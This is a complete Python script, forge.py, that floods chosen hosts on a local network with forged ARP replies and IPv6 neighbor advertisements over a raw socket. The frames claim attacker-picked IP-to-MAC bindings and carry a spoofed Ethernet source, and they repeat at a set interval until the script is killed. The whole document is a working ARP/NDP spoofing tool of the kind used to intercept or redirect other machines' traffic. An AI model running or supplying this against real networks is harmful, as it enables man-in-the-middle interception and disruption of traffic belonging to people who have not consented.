#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Sends frames in the name of others: forge.py LINK SOURCE CLAIMED TARGETS IPS GAP_MS

Each IP (comma separated) is said to be at the MAC CLAIMED, to each of TARGETS (MACs), in frames whose
Ethernet source is SOURCE, every GAP_MS until it is killed.
"""
import ipaddress
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp_reply(source, claimed, target, ip):
    return (
        target + source + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
        + claimed + ip.packed + claimed + ip.packed
    )


def advertisement(source, claimed, target, ip):
    to = ipaddress.ip_address("ff02::1").packed
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ip.packed + b"\x02\x01" + claimed
    pseudo = ip.packed + to + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + ip.packed + to
    return target + source + struct.pack("!H", 0x86DD) + header + body


def main():
    link, source, claimed, targets, ips, gap_ms = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((link, 0))
    frames = []
    for ip in map(ipaddress.ip_address, ips.split(",")):
        build = arp_reply if ip.version == 4 else advertisement
        frames += [build(mac(source), mac(claimed), mac(t), ip) for t in targets.split(",")]
    while True:
        for frame in frames:
            out.send(frame)
        time.sleep(int(gap_ms) / 1000)


main()
